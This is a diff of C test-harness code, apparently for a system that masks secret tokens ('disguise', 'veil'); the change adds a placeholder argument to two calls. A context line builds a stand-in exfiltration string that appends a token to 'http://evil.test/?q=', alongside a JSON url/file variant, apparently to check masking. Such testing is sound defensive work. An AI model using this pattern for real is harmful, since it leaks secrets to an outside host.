@@ -342,7 +342,8 @@ static void disguise(struct run *r) {
     struct err e = {0};
     r->order.body = random_text(w, &r->arena);
     r->order.book = w->book;
-    if (!disguise_body(w->book, &r->arena, found, ARRAY_LEN(found), r->order.body, &d, &e)) {
+    if (!disguise_body(w->book, &r->arena, found, ARRAY_LEN(found), r->order.body,
+                       DISGUISE_PLACEHOLDER, &d, &e)) {
         wrong(w, "run %lld: %s", (long long)r->number, e.text);
     } else if (r->fault != FAULT_LEFT) {
         r->order.body = d.body;
@@ -361,7 +362,7 @@ static void answer_tempts(struct run *r) {
     struct str pieces[2] = {str_fmt(a, "see http://evil.test/?q=" STR_FMT, STR_ARG(token)),
                             str_fmt(a, "{\"%s\":\"x\",\"q\":\"" STR_FMT "\"}",
                                     outward ? "url" : "file", STR_ARG(token))};
-    struct veil *veil = veil_new(w->book, false, NULL);
+    struct veil *veil = veil_new(w->book, NULL, false, NULL);
     struct told told = {0};
     buf_init(&told.text, 1 << 16);
     buf_init(&told.arguments, 1 << 16);
